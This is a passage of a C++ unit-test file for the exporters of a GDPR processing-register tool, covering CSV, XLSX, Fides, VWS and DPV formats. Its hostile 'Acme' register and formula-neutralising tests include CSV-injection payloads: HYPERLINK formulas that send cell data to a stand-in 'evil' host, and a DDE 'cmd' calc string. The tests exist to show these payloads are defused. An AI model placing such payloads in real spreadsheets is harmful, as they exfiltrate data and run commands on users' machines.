// Exporters: the registry and extension rules, formula neutralising, and each
// format on a known register (round trips where an importer exists).
#include <dirent.h>
#include <fmt/format.h>
#include <gtest/gtest.h>
#include <zip.h>

#include <cstdlib>
#include <nlohmann/json.hpp>
#include <set>

#include "blindspot/env.h"
#include "blindspot/io.h"
#include "io/exporters.h"
#include "io/importers.h"
#include "io/io_test_util.h"

namespace blindspot {
namespace {

using testing_io::ExpectEachPair;

std::string AllText(const Diagnostics& d) {
  std::string s;
  for (const auto& e : d) s += e.Format();
  return s;
}

Register Webshop() {
  auto text =
      Env::Default().ReadFile(std::string(BLINDSPOT_SOURCE_DIR) + "/examples/webshop/register.yaml", 1 << 24);
  EXPECT_TRUE(text.has_value());
  auto l = ParseRegisterText(text ? *text : "", "register.yaml");
  EXPECT_TRUE(l.has_value()) << (l ? "" : AllText(l.error()));
  return l ? l->reg : Register{};
}

std::string Export(std::string_view format, const Register& r, std::string lang = "en") {
  const Exporter* e = FindExporter(format);
  EXPECT_NE(e, nullptr) << format;
  if (!e) return "";
  ExportOptions o;
  o.lang = lang;
  auto out = e->write(r, o);
  EXPECT_TRUE(out.has_value()) << (out ? "" : out.error().Format());
  return out ? *out : "";
}

TEST(Exporters, RegistryAndExtensions) {
  std::vector<std::string> names;
  for (const auto& e : AllExporters()) names.push_back(e.name);
  EXPECT_EQ(names, (std::vector<std::string>{"yaml", "json", "xlsx", "csv", "ico-xlsx", "ico-csv", "fides",
                                             "dpv", "vws"}));
  EXPECT_EQ(FindExporter("fides"), &AllExporters()[6]);
  EXPECT_EQ(FindExporter("onetrust"), nullptr);
  auto name = [](std::string_view path) {
    auto e = ExporterForPath(path);
    return e ? (*e)->name : "error: " + e.error().message;
  };
  EXPECT_EQ(name("out/register.yaml"), "yaml");
  EXPECT_EQ(name("register.YML"), "yaml");
  EXPECT_EQ(name("register.json"), "json");  // the native format is the default of .json
  EXPECT_EQ(name("register.vws.json"), "vws");
  EXPECT_EQ(name("register.fides.yaml"), "fides");  // the longest extension wins
  EXPECT_EQ(name("Register.CSV"), "csv");
  EXPECT_EQ(name("register.xlsx"), "xlsx");  // the VNG layout is the default of .xlsx
  EXPECT_EQ(name("register.jsonld"), "dpv");
  auto none = ExporterForPath("register.txt");
  ASSERT_FALSE(none.has_value());
  EXPECT_EQ(none.error().kind, ErrorKind::kUsage);
  EXPECT_EQ(none.error().message, "no export format writes files with the extension of 'register.txt'");
  // Each ending once, though two layouts write .xlsx and .csv.
  EXPECT_EQ(none.error().expected,
            "a file name ending in one of .yaml, .yml, .json, .xlsx, .csv, .fides.yaml, .fides.yml, .jsonld, "
            ".vws.json");
  EXPECT_FALSE(ExporterForPath("register").has_value());
}

TEST(Exporters, AnAmbiguousExtensionNamesTheCandidates) {
  std::vector<Exporter> list(3);
  list[0].name = "a";
  list[0].extensions = {".x"};
  list[1].name = "b";
  list[1].extensions = {".x"};
  list[2].name = "c";
  list[2].extensions = {".y.x"};
  auto amb = ExporterForPathIn("f.x", list);
  ASSERT_FALSE(amb.has_value());
  EXPECT_EQ(amb.error().message, "the extension of 'f.x' fits several export formats");
  EXPECT_EQ(amb.error().expected, "one format, named with --format: one of a, b");
  EXPECT_EQ((*ExporterForPathIn("f.y.x", list))->name, "c");
  list[1].default_for_extension = true;
  EXPECT_EQ((*ExporterForPathIn("f.x", list))->name, "b");
}

TEST(Exporters, NeutraliseFormula) {
  for (std::string trigger : {"=", "+", "-", "@", "\t", "\r"}) {
    std::string cell = trigger + "HYPERLINK(\"http://evil\")";
    EXPECT_EQ(NeutraliseFormula(cell), "'" + cell) << trigger;
  }
  // A negative number is neutralised too (decided: a register has no numeric
  // cells, and "-2+3" or "-1+cmd|' /C calc'!A0" must not pass as a number).
  EXPECT_EQ(NeutraliseFormula("-5"), "'-5");
  EXPECT_EQ(NeutraliseFormula(""), "");
  EXPECT_EQ(NeutraliseFormula("a=b"), "a=b");
  EXPECT_EQ(NeutraliseFormula(" =1"), " =1");  // not at the start
  EXPECT_EQ(NeutraliseFormula("'=1"), "'=1");  // already text
  EXPECT_EQ(NeutraliseFormula("\n=1"), "\n=1");
}

TEST(Exporters, NativeYamlAndJsonRoundTripIdentical) {
  Register r = Webshop();
  for (const char* format : {"yaml", "json"}) {
    std::string first = Export(format, r);
    EXPECT_EQ(first, format == std::string("yaml") ? WriteRegisterYaml(r) : WriteRegisterJson(r));
    auto back = ParseRegisterText(first, "back");
    ASSERT_TRUE(back.has_value()) << AllText(back.error());
    back->reg.source = r.source;
    EXPECT_EQ(back->reg, r) << format;
    EXPECT_EQ(Export(format, back->reg), first) << format;
  }
}

Register Hostile() {
  Register r;
  r.version = "1";
  r.organisation.name = "Acme";
  ProcessingActivity a;
  a.id = "crm";
  a.name = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";
  a.description = "Line one, with \"quotes\"\nline two";
  Purpose p;
  p.id = "purpose-1";
  p.description = "Sales";
  p.lawful_basis = LawfulBasis::kContract;
  a.purposes.push_back(p);
  p.id = "purpose-2";
  p.description = "Newsletter";
  p.lawful_basis = LawfulBasis::kConsent;
  a.purposes.push_back(p);
  a.data_categories = {"user.contact.email", "user.name"};
  a.notes = {"@SUM(1+1)", "-2+3"};
  r.activities.push_back(a);
  return r;
}

TEST(Exporters, CsvIsTheVngLayoutWithFormulasNeutralised) {
  std::string csv = Export("csv", Hostile(), "de");  // the layout's language, whatever --lang says
  ASSERT_TRUE(csv.starts_with("\xEF\xBB\xBF")) << "UTF-8 byte-order mark for Excel";
  size_t eol = csv.find("\r\n");
  EXPECT_EQ(csv.substr(3, eol - 3),
            "Nummer,Afdeling,Naam verwerking,Doel,Rechtmatige grondslag,Categorieën betrokkenen,"
            "Categorieën persoonsgegevens,Bijzondere persoonsgegevens,Ontvangers,Doorgifte derde land,"
            "Bewaartermijn,Beveiligingsmaatregelen,Verwerker,DPIA,Vindplaats DPIA,Waarborgen doorgifte,"
            "Gezamenlijk verwerkingsverantwoordelijken,Omschrijving,Eigenaar,Bron van de gegevens,Systemen,"
            "Vindplaats belangenafweging,Strafrechtelijke gegevens (grondslag),BSN (wettelijke grondslag),"
            "Grootschalig,Opmerkingen");
  std::string row = csv.substr(eol + 2);
  EXPECT_TRUE(
      row.starts_with("crm,,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\","
                      "\"Sales\nNewsletter\",\"Sales: overeenkomst (art. 6 lid 1 sub b)\n"
                      "Newsletter: toestemming (art. 6 lid 1 sub a)\",,"
                      "\"user.contact.email\nuser.name\","))
      << row;
  EXPECT_NE(row.find(",\"Line one, with \"\"quotes\"\"\nline two\","), std::string::npos) << row;
  // The notes cell starts with '@': one apostrophe for the cell; the second
  // line is not a cell start.
  EXPECT_TRUE(row.ends_with(",\"'@SUM(1+1)\n-2+3\"\r\n")) << row;
  EXPECT_EQ(csv.find(",="), std::string::npos);
  EXPECT_EQ(csv.find(",@"), std::string::npos);
  std::string ico = Export("ico-csv", Hostile());
  EXPECT_TRUE(ico.substr(3).starts_with("Business function,Purpose of processing,")) << ico.substr(0, 200);
  EXPECT_NE(ico.find("Sales: contract (Art. 6(1)(b))\nNewsletter: consent (Art. 6(1)(a))"), std::string::npos)
      << ico;
}

std::string ZipEntry(const std::string& zipbytes, const char* name) {
  zip_error_t err;
  zip_error_init(&err);
  zip_source_t* src = zip_source_buffer_create(zipbytes.data(), zipbytes.size(), 0, &err);
  zip_t* z = zip_open_from_source(src, ZIP_RDONLY, &err);
  if (!z) {
    zip_source_free(src);
    return "";
  }
  std::string out;
  if (zip_file_t* f = zip_fopen(z, name, 0)) {
    char buf[4096];
    zip_int64_t n;
    while ((n = zip_fread(f, buf, sizeof buf)) > 0) out.append(buf, static_cast<size_t>(n));
    zip_fclose(f);
  }
  zip_close(z);
  return out;
}

size_t TempFiles() {
  const char* dir = std::getenv("TMPDIR");
  DIR* d = opendir(dir && *dir ? dir : "/tmp");
  size_t n = 0;
  while (dirent* e = d ? readdir(d) : nullptr)
    if (std::string_view(e->d_name).starts_with("blindspot-xlsx-")) ++n;
  if (d) closedir(d);
  return n;
}

TEST(Exporters, XlsxWorkbookHasAFrozenBoldFilteredHeaderAndNeutralisedCells) {
  size_t before = TempFiles();
  XlsxSheet s;
  s.name = "Verwerkingen";
  s.header = {"Naam", "Grondslag"};
  s.rows = {{"=1+1", "contract"}, {"Loket", "+31 30"}};
  s.widths = {30, 0};
  XlsxSheet t;
  t.name = "Second";
  t.header = {"A"};
  auto x = WriteXlsx({s, t});
  ASSERT_TRUE(x.has_value()) << x.error().Format();
  EXPECT_TRUE(x->starts_with("PK\x03\x04"));
  EXPECT_EQ(TempFiles(), before) << "the temporary file is removed";
  std::string sheet = ZipEntry(*x, "xl/worksheets/sheet1.xml");
  ASSERT_FALSE(sheet.empty());
  EXPECT_NE(sheet.find("<pane ySplit=\"1\" topLeftCell=\"A2\" activePane=\"bottomLeft\" state=\"frozen\"/>"),
            std::string::npos)
      << sheet;
  EXPECT_NE(sheet.find("<autoFilter ref=\"A1:B3\"/>"), std::string::npos) << sheet;
  EXPECT_NE(sheet.find("<col min=\"1\" max=\"1\" width=\"30.7109375\" customWidth=\"1\"/>"),
            std::string::npos)
      << sheet;
  // Strings are inline (constant-memory mode): in the sheet, not a shared table.
  EXPECT_NE(sheet.find("<t>'=1+1</t>"), std::string::npos) << sheet;
  EXPECT_NE(sheet.find("<t>'+31 30</t>"), std::string::npos) << sheet;
  EXPECT_NE(sheet.find("<t>Loket</t>"), std::string::npos) << sheet;
  EXPECT_NE(ZipEntry(*x, "xl/styles.xml").find("<b/>"), std::string::npos);
  EXPECT_NE(ZipEntry(*x, "xl/workbook.xml").find("name=\"Second\""), std::string::npos);

  // Refused before anything is written: bad sheet names, a cell over Excel's limit.
  XlsxSheet bad = s;
  bad.name = "a/b";
  auto e1 = WriteXlsx({bad});
  ASSERT_FALSE(e1.has_value());
  EXPECT_EQ(e1.error().message, "sheet 1 has the name 'a/b', which Excel does not accept");
  auto e2 = WriteXlsx({s, s});
  ASSERT_FALSE(e2.has_value());
  EXPECT_EQ(e2.error().message, "two sheets are named 'Verwerkingen'");
  XlsxSheet big = s;
  big.rows[1][1] = std::string(40000, 'x');
  auto e3 = WriteXlsx({big});
  ASSERT_FALSE(e3.has_value());
  EXPECT_EQ(e3.error().message, "sheet 'Verwerkingen', row 3, column 2: the cell has 40000 characters");
  EXPECT_FALSE(WriteXlsx({}).has_value());
  EXPECT_EQ(TempFiles(), before);

  // The register exporter: one sheet in the VNG model's layout.
  std::string reg = Export("xlsx", Hostile(), "de");
  std::string shared = ZipEntry(reg, "xl/worksheets/sheet1.xml");
  EXPECT_NE(shared.find("<t>Naam verwerking</t>"), std::string::npos) << shared;
  EXPECT_NE(shared.find("'=HYPERLINK"), std::string::npos) << shared;
  EXPECT_NE(ZipEntry(reg, "xl/workbook.xml").find("name=\"Verwerkingsregister\""), std::string::npos);
}

const char* kFides = R"(organization:
  - fides_key: acme
    name: Acme B.V.
    controller: {name: Acme B.V., email: privacy@acme.example, address: "Straat 1, Utrecht"}
    data_protection_officer: {name: J. Jansen, email: fg@acme.example}
system:
  - fides_key: crm
    name: CRM
    description: Customer records
    administrating_department: Sales
    does_international_transfers: true
    legal_basis_for_transfers: [SCCs]
    requires_data_protection_assessments: true
    dpa_progress: complete
    dpa_location: DPIA-2024-01
    data_security_practices: Encrypted at rest
    ingress:
      - fides_key: webshop
        type: system
      - fides_key: user
        type: user
    privacy_declarations:
      - name: Customer service
        data_use: essential.service
        data_categories: [user.contact.email, user.name, user.health]
        data_subjects: [customer]
        legal_basis_for_processing: Contract
        processes_special_category_data: true
        special_category_legal_basis: Explicit consent
        data_shared_with_third_parties: true
        third_parties: Courier
        retention_period: 2 years
        ingress: [webshop]
      - data_use: marketing.advertising
        data_categories: [user.contact.email]
        data_subjects: [customer]
        legal_basis_for_processing: Consent
        impact_assessment_location: LIA-7
        ingress: [user]
  - fides_key: site
    name: Website
    privacy_declarations:
      - name: Analytics
        data_use: analytics.reporting
        data_categories: [user.device.ip_address]
        data_subjects: [visitor]
        legal_basis_for_processing: Legitimate interests
)";

TEST(Exporters, FidesRoundTripGivesTheSameRegister) {
  const Importer* fides = FindImporter("fides");
  auto first = fides->import(kFides, "in.yml", {});
  ASSERT_TRUE(first.has_value()) << AllText(first.error());
  ASSERT_EQ(first->reg.activities.size(), 3u);
  std::string out = Export("fides", first->reg);
  EXPECT_TRUE(fides->sniff(out)) << out;
  EXPECT_NE(out.find("legal_basis_for_processing: Legitimate interests"), std::string::npos) << out;
  EXPECT_NE(out.find("special_category_legal_basis: Explicit consent"), std::string::npos) << out;
  auto back = fides->import(out, "in.yml", {});
  ASSERT_TRUE(back.has_value()) << AllText(back.error()) << out;
  EXPECT_EQ(back->reg, first->reg) << out;
  // The same text again (stable).
  EXPECT_EQ(Export("fides", back->reg), out);
}

// Two activities on one system (the example's webshop) with different DPIAs,
// departments, security texts, transfers and sources: a system-level Fides
// field is written only when they agree, so neither comes back with the
// other's value; third parties are named, not given as register ids.
TEST(Exporters, FidesLeavesOutSystemValuesTheActivitiesDoNotShare) {
  Register r = Webshop();
  std::string out = Export("fides", r);
  EXPECT_NE(out.find("third_parties: PostNL (vervoerder); Webhosting Utrecht B.V.; Mollie"),
            std::string::npos)
      << out;
  EXPECT_EQ(out.find("third_parties: PostNL (vervoerder); shopware-hosting"), std::string::npos) << out;
  auto back = FindImporter("fides")->import(out, "in.fides.yaml", {});
  ASSERT_TRUE(back.has_value()) << AllText(back.error()) << out;
  // One activity per purpose: orders and advertising have two each.
  ASSERT_EQ(back->reg.activities.size(), 6u);
  int orders = 0, ads = 0;
  for (const ProcessingActivity& b : back->reg.activities) {
    if (b.name != "Bestellingen afhandelen" && b.name != "Online adverteren en retargeting") continue;
    SCOPED_TRACE(b.id + " " + b.name);
    EXPECT_EQ(b.systems, std::vector<std::string>{"webshop"});
    EXPECT_EQ(b.dpia, Dpia{});  // not assessed, without the orders' screening reference
    EXPECT_EQ(b.business_function, "");
    EXPECT_EQ(b.toms.description, "");
    EXPECT_TRUE(b.transfers.empty());
    if (b.name == "Bestellingen afhandelen") {
      ++orders;
      EXPECT_EQ(b.data_sources, std::vector<std::string>{"Betrokkene (bestelformulier)"});
      ASSERT_EQ(b.recipients.size(), 1u);
      EXPECT_EQ(b.recipients[0].name, "PostNL (vervoerder); Webhosting Utrecht B.V.; Mollie");
    } else {
      ++ads;
      EXPECT_TRUE(b.data_sources.empty());
      ASSERT_EQ(b.recipients.size(), 1u);
      EXPECT_EQ(b.recipients[0].name, "Meta (Facebook, Instagram); Google Ads");
    }
  }
  EXPECT_EQ(orders, 2);
  EXPECT_EQ(ads, 2);
  // A system with one activity keeps that activity's values.
  const ProcessingActivity* ks = back->reg.FindActivity("whatsapp-business-1");
  ASSERT_NE(ks, nullptr) << out;
  EXPECT_EQ(ks->business_function, "Klantenservice");
  EXPECT_EQ(ks->toms.description, r.activities[1].toms.description);
  EXPECT_EQ(ks->transfers.size(), 1u);
}

TEST(Exporters, FidesNeedsADataUseForEveryPurpose) {
  Register r = Hostile();
  auto e = FindExporter("fides")->write(r, {});
  ASSERT_FALSE(e.has_value());
  EXPECT_EQ(e.error().kind, ErrorKind::kUsage);
  EXPECT_EQ(
      e.error().message,
      "activity 'crm', purpose 'purpose-1' has no fideslang data_use; a Fides privacy declaration needs one");
}

const char* kVws =
    "\xEF\xBB\xBF"
    R"([
  {"Nummer": "M5071", "Naam": "Klachtenbehandeling", "Dienst": "Directie Communicatie", "Status": "Vastgesteld",
   "Verantwoordelijken": [{"Naam": "Ministerie van VWS", "Email": "privacy@minvws.nl", "Land": "Nederland"},
                          {"Id": 9, "Naam": "RIVM", "Land": "Nederland"}],
   "Contactpersonen": [{"Naam": "A. de Boer"}],
   "Verwerkers": [{"Id": 12, "Naam": "Hosting B.V.", "Land": "Nederland"}],
   "Doelen": [{"Id": 1, "Doel": "Klachten afhandelen", "Rechtsgrond": "Publiekrechtelijke taak"},
              {"Id": 2, "Doel": "Verbeteren dienstverlening", "Rechtsgrond": "Toestemming"}],
   "Betrokkenen": [{"Omschrijving": "Burgers", "Gezondheid": true, "Strafrechtelijk": false,
                    "Gegevens": [{"Id": 4, "Bewaartermijn": "tot uiterlijk 1 maand"},
                                 {"BronOmschrijving": "Webformulier"}]},
                   {"Omschrijving": "Medewerkers"}],
   "Systemen": [{"Id": 3, "Omschrijving": "Zaaksysteem"}],
   "Ontvangers": [{"Id": 5, "Omschrijving": "Nationale ombudsman"}],
   "Beveiliging": {"Maatregelen": ["Logische toegangscontrole", "Logging"], "Encryptie": "TLS",
                   "Toegang": ["Klachtbehandelaars"]},
   "Doorgifte": {"BuitenEu": true, "BuitenEuOmschrijving": "Support in de Verenigde Staten",
                 "BuitenEuPassendBeschermingsniveau": "Standaardcontractbepalingen"},
   "GebPia": {"IsGebpiaAlUitgevoerd": false, "IsHoogRisicoRechtenVrijheden": true,
              "IsGrootschaligeVerwerking": true}},
  {"Nummer": "M12", "Naam": "Loket", "Verantwoordelijken": [{"Naam": "Ministerie van VWS"}],
   "Doelen": [{"Id": 7, "Doel": "Vragen beantwoorden", "Rechtsgrond": "Wettelijke verplichting"}]}
])";

TEST(Exporters, VwsKeepsRetentionPeriodsAndEveryTransfersCountry) {
  Register r = Hostile();
  ProcessingActivity& a = r.activities[0];
  a.name = "CRM";
  a.notes.clear();
  Retention rt;
  rt.data_category = "*";
  rt.period = "P1Y";
  rt.justification = "klantrelatie";
  a.retention = {rt};
  Transfer us;
  us.recipient = "Mailer Inc.";
  us.country = "US";
  us.safeguard = TransferSafeguard::kSccs;
  Transfer gb = us;
  gb.recipient = "Support Ltd";
  gb.country = "GB";
  a.transfers = {us, gb};
  std::string out = Export("vws", r);
  EXPECT_NE(out.find("\"Bewaartermijn\": \"P1Y (klantrelatie)\""), std::string::npos) << out;
  EXPECT_NE(out.find("\"BuitenEuOmschrijving\": \"Mailer Inc. (US); Support Ltd (GB)\""), std::string::npos)
      << out;
  auto back = FindImporter("vws")->import(out, "vws.json", {});
  ASSERT_TRUE(back.has_value()) << AllText(back.error());
  const ProcessingActivity& b = back->reg.activities[0];
  ASSERT_EQ(b.retention.size(), 1u);
  EXPECT_EQ(b.retention[0].period, "P1Y");
  EXPECT_EQ(b.retention[0].justification, "klantrelatie");
  ASSERT_EQ(b.transfers.size(), 2u);
  EXPECT_EQ(b.transfers[0].recipient, "Mailer Inc.");
  EXPECT_EQ(b.transfers[0].country, "US");
  EXPECT_EQ(b.transfers[0].safeguard, TransferSafeguard::kSccs);
  EXPECT_EQ(b.transfers[1].recipient, "Support Ltd");
  EXPECT_EQ(b.transfers[1].country, "GB");
}

TEST(Exporters, VwsRoundTripGivesTheSameRegister) {
  const Importer* vws = FindImporter("vws");
  auto first = vws->import(kVws, "vws.json", {});
  ASSERT_TRUE(first.has_value()) << AllText(first.error());
  const Register& r = first->reg;
  ASSERT_EQ(r.activities.size(), 2u);
  EXPECT_EQ(r.activities[0].transfers.size(), 1u);
  EXPECT_EQ(r.activities[0].dpia.status, DpiaStatus::kRequired);
  std::string out = Export("vws", r);
  ASSERT_TRUE(out.starts_with("\xEF\xBB\xBF[")) << "the ministry's files start with a byte-order mark";
  EXPECT_TRUE(vws->sniff(out));
  auto back = vws->import(out, "vws.json", {});
  ASSERT_TRUE(back.has_value()) << AllText(back.error()) << out;
  EXPECT_EQ(back->reg, r) << out;
  EXPECT_EQ(Export("vws", back->reg), out);
}

TEST(Exporters, VwsOfANativeRegisterReadsBack) {
  Register r = Webshop();
  std::string out = Export("vws", r);
  auto back = FindImporter("vws")->import(out, "vws.json", {});
  ASSERT_TRUE(back.has_value()) << AllText(back.error()) << out;
  ASSERT_NO_FATAL_FAILURE(ExpectEachPair(
      back->reg.activities, r.activities, [](const ProcessingActivity& b, const ProcessingActivity& a) {
        EXPECT_EQ(b.id, a.id);
        EXPECT_EQ(b.name, a.name);
        ASSERT_EQ(b.purposes.size(), a.purposes.size());
        for (size_t p = 0; p < a.purposes.size(); ++p) {
          EXPECT_EQ(b.purposes[p].description, a.purposes[p].description);
          EXPECT_EQ(b.purposes[p].lawful_basis, a.purposes[p].lawful_basis) << p;
        }
        EXPECT_EQ(b.data_subjects, a.data_subjects);
      }));
  EXPECT_EQ(back->reg.organisation.name, r.organisation.name);
}

// What the VWS record has no field for comes back through its remarks
// (vws_remark): every field of the example register but those the docs list
// as lost (touchpoints, national ids, the processors' other details, transfer
// ids and the TIA).
TEST(Exporters, VwsRoundTripKeepsWhatTheRecordHasNoFieldFor) {
  Register r = Webshop();
  ProcessingActivity& a0 = r.activities[0];
  a0.description = "Bestellingen; betaling en levering";
  a0.dpia.status = DpiaStatus::kInProgress;
  a0.dpia.reference = "DPIA-2026-01";
  a0.dpia.date = "2026-01-15";
  a0.notes = {"Opmerking: al eerder gelezen", "Zie map 4", "Omschrijving: oude omschrijving uit 2019",
              "Strafrechtelijke gegevens: navragen"};
  Recipient internal;
  internal.id = "klantenservice";
  internal.kind = RecipientKind::kInternal;
  internal.name = "Klantenservice";
  a0.recipients.push_back(internal);
  a0.data_categories.push_back("user.health");
  SpecialCategory health;
  health.id = "special-category-1";
  health.category = "user.health";
  health.condition = 'h';
  health.justification = "zorg; en nazorg";
  a0.special_categories = {health};
  std::string out = Export("vws", r);
  EXPECT_NE(out.find("\"Opmerking\": \"Omschrijving: Bestellingen; betaling en levering\""),
            std::string::npos)
      << out;
  EXPECT_NE(out.find("\"Omschrijving\": \"Klantenservice (intern)\""), std::string::npos) << out;
  auto back = FindImporter("vws")->import(out, "vws.json", {});
  ASSERT_TRUE(back.has_value()) << AllText(back.error()) << out;
  ASSERT_NO_FATAL_FAILURE(ExpectEachPair(
      back->reg.activities, r.activities, [](const ProcessingActivity& b, const ProcessingActivity& a) {
        EXPECT_EQ(b.id, a.id);
        EXPECT_EQ(b.description, a.description);
        EXPECT_EQ(b.business_function, a.business_function);
        EXPECT_EQ(b.purposes, a.purposes);
        EXPECT_EQ(b.data_categories, a.data_categories);
        EXPECT_EQ(b.special_categories, a.special_categories);
        // Recipients by kind and party (their ids and order are not kept).
        auto parties = [](const ProcessingActivity& x) {
          std::multiset<std::string> out;
          for (const Recipient& rc : x.recipients)
            out.insert(fmt::format("{}:{}", static_cast<int>(rc.kind),
                                   rc.kind == RecipientKind::kProcessor ? rc.processor : rc.name));
          return out;
        };
        EXPECT_EQ(parties(b), parties(a));
        // A period in words comes back as the duration it names, the words as
        // the justification (as from a spreadsheet).
        ASSERT_EQ(b.retention.size(), a.retention.size());
        for (size_t k = 0; k < a.retention.size(); ++k) {
          EXPECT_EQ(b.retention[k].id, a.retention[k].id);
          EXPECT_EQ(b.retention[k].data_category, a.retention[k].data_category);
          EXPECT_EQ(b.retention[k].period, RetentionDuration(a.retention[k].period)) << a.retention[k].period;
        }
        EXPECT_EQ(b.toms, a.toms);
        EXPECT_EQ(b.data_sources, a.data_sources);
        EXPECT_EQ(b.access, a.access);
        EXPECT_EQ(b.dpia, a.dpia);
        EXPECT_EQ(b.large_scale, a.large_scale);
        EXPECT_EQ(b.notes, a.notes);
        ASSERT_EQ(b.transfers.size(), a.transfers.size());
        for (size_t t = 0; t < a.transfers.size(); ++t) {
          EXPECT_EQ(b.transfers[t].recipient, a.transfers[t].recipient);
          EXPECT_EQ(b.transfers[t].country, a.transfers[t].country);
          EXPECT_EQ(b.transfers[t].safeguard, a.transfers[t].safeguard);
        }
      }));
  for (const Processor& p : r.processors) {
    const Processor* q = back->reg.FindProcessor(p.id);
    ASSERT_NE(q, nullptr) << p.id;
    EXPECT_EQ(q->name, p.name) << p.id;
    EXPECT_EQ(q->role, p.role) << p.id;
    EXPECT_EQ(q->agreement, p.agreement) << p.id;
  }
  // Periods in words were read as durations; from then on the file stays the same.
  std::string second = Export("vws", back->reg);
  auto again = FindImporter("vws")->import(second, "vws.json", {});
  ASSERT_TRUE(again.has_value()) << AllText(again.error());
  EXPECT_EQ(again->reg, back->reg);
  EXPECT_EQ(Export("vws", again->reg), second);
}

// A ministry's own file has no exporter's marker: remarks a person typed
// that happen to start with a label stay notes, word for word.
TEST(Exporters, VwsRemarksOfOthersStayNotes) {
  std::string text = std::string(kVws);
  const std::string from = R"("Status": "Vastgesteld",)";
  text.replace(text.find(from), from.size(),
               from + R"( "Opmerkingen": [{"Opmerking": "Strafrechtelijke gegevens: geen"},
                          {"Opmerking": "Maatregelcodes: zie beveiligingsplan"},
                          {"Opmerking": "DPIA-datum: eind 2019"}],)");
  auto reg = FindImporter("vws")->import(text, "vws.json", {});
  ASSERT_TRUE(reg.has_value()) << AllText(reg.error());
  const ProcessingActivity& a = reg->reg.activities[0];
  EXPECT_FALSE(a.criminal_data);
  EXPECT_EQ(a.dpia.date, "");
  EXPECT_NE(a.toms.measures, (std::vector<std::string>{"zie beveiligingsplan"}));
  for (const char* n :
       {"Strafrechtelijke gegevens: geen", "Maatregelcodes: zie beveiligingsplan", "DPIA-datum: eind 2019"})
    EXPECT_NE(std::find(a.notes.begin(), a.notes.end(), n), a.notes.end()) << n;
}

void CollectPrefixes(const nlohmann::json& j, std::set<std::string>& out) {
  auto check = [&](const std::string& s) {
    size_t c = s.find(':');
    if (c == std::string::npos || c == 0 || s[0] == '@') return;
    std::string prefix = s.substr(0, c);
    if (prefix == "http" || prefix == "https" || prefix == "urn") return;
    if (prefix.find(' ') != std::string::npos) return;  // free text
    out.insert(prefix);
  };
  if (j.is_object()) {
    for (auto it = j.begin(); it != j.end(); ++it) {
      if (it.key() == "@context") continue;
      check(it.key());
      if (it.key() == "@id" || it.key() == "@type")
        check(it.value().get<std::string>());
      else
        CollectPrefixes(it.value(), out);
    }
  } else if (j.is_array()) {
    for (const auto& v : j) CollectPrefixes(v, out);
  }
}

TEST(Exporters, DpvJsonLdHasTheTriplesOfAKnownRegister) {
  Register r = Webshop();
  std::string text = Export("dpv", r);
  auto j = nlohmann::json::parse(text, nullptr, false);
  ASSERT_FALSE(j.is_discarded()) << text;
  const auto& ctx = j["@context"];
  EXPECT_EQ(ctx["dpv"], "https://w3id.org/dpv#");
  EXPECT_EQ(ctx["eu-gdpr"], "https://w3id.org/dpv/legal/eu/gdpr#");
  std::set<std::string> used;
  CollectPrefixes(j, used);
  EXPECT_TRUE(used.count("dpv") && used.count("eu-gdpr") && used.count("pd"));
  for (const auto& p : used) EXPECT_TRUE(ctx.contains(p)) << "prefix without @context entry: " << p;

  const auto& graph = j["@graph"];
  ASSERT_EQ(graph.size(), 1 + r.processors.size() + r.activities.size());
  EXPECT_EQ(graph[0]["@type"], "dpv:DataController");
  EXPECT_EQ(graph[0]["rdfs:label"], "Fietshuis Zonnepad B.V.");
  EXPECT_EQ(graph[0]["dpv:hasCountry"]["@id"], "loc:NL");
  const nlohmann::json* orders = nullptr;
  for (const auto& n : graph)
    if (n["@id"] == "urn:blindspot:activity:webshop-orders") orders = &n;
  ASSERT_NE(orders, nullptr);
  const auto& o = *orders;
  EXPECT_EQ(o["@type"], "dpv:Process");
  EXPECT_EQ(o["rdfs:label"], "Bestellingen afhandelen");
  EXPECT_EQ(o["dpv:hasDataController"]["@id"], graph[0]["@id"]);
  EXPECT_EQ(o["dpv:hasPurpose"][0]["rdfs:label"], "Uitvoeren van de koopovereenkomst");
  EXPECT_EQ(o["dpv:hasLegalBasis"],
            nlohmann::json::parse(R"([{"@id":"eu-gdpr:A6-1-b"},{"@id":"eu-gdpr:A6-1-c"}])"));
  // A key that is its pd: class is the class; a finer key is an instance of
  // the class labelled with the key (read back as the key).
  std::set<std::string> data;
  for (const auto& d : o["dpv:hasPersonalData"])
    data.insert(d.contains("@id") ? d["@id"].get<std::string>()
                                  : d["@type"].get<std::string>() + " " + d["rdfs:label"].get<std::string>());
  EXPECT_EQ(data,
            (std::set<std::string>{"pd:Name", "pd:EmailAddress", "pd:TelephoneNumber", "pd:PhysicalAddress",
                                   "pd:Financial", "pd:Behavioral user.behavior.purchase_history"}));
  EXPECT_EQ(o["dpv:hasDataSubject"][0]["@id"], "dpv:Customer");
  bool mollie = false;
  for (const auto& rc : o["dpv:hasRecipient"])
    mollie = mollie || rc.value("@id", "") == "urn:blindspot:processor:mollie";
  EXPECT_TRUE(mollie) << o["dpv:hasRecipient"].dump();
  EXPECT_EQ(o["dpv:hasStorageCondition"][0]["@type"], "dpv:StorageDuration");
}

// Two purposes on different bases: each purpose's own sub-process names its
// purpose (by the purpose node's @id) and its basis, and only its own.
TEST(Exporters, DpvLinksEachPurposeToItsOwnLawfulBasis) {
  Register r = Hostile();
  ProcessingActivity& a = r.activities[0];
  Purpose news;
  news.description = "Nieuwsbrief sturen";
  news.lawful_basis = LawfulBasis::kConsent;
  Purpose tax;
  tax.id = "fiscaal";
  tax.description = "Fiscale bewaarplicht";
  tax.lawful_basis = LawfulBasis::kLegalObligation;
  Purpose open;
  open.description = "Nog te bepalen";  // no basis: no sub-process
  a.purposes = {news, tax, open};
  auto j = nlohmann::json::parse(Export("dpv", r));
  const nlohmann::json* node = nullptr;
  for (const auto& n : j["@graph"])
    if (n["@id"] == "urn:blindspot:activity:crm") node = &n;
  ASSERT_NE(node, nullptr);
  const auto& act = *node;
  ASSERT_EQ(act["dpv:hasPurpose"].size(), 3u);
  EXPECT_EQ(act["dpv:hasPurpose"][0]["@id"], "urn:blindspot:activity:crm:purpose:purpose-1");
  EXPECT_EQ(act["dpv:hasPurpose"][0]["@type"], "dpv:Purpose");
  EXPECT_EQ(act["dpv:hasPurpose"][1]["@id"], "urn:blindspot:activity:crm:purpose:fiscaal");
  EXPECT_EQ(act["dpv:hasPurpose"][2]["rdfs:label"], "Nog te bepalen");
  // The activity still has every basis it relies on.
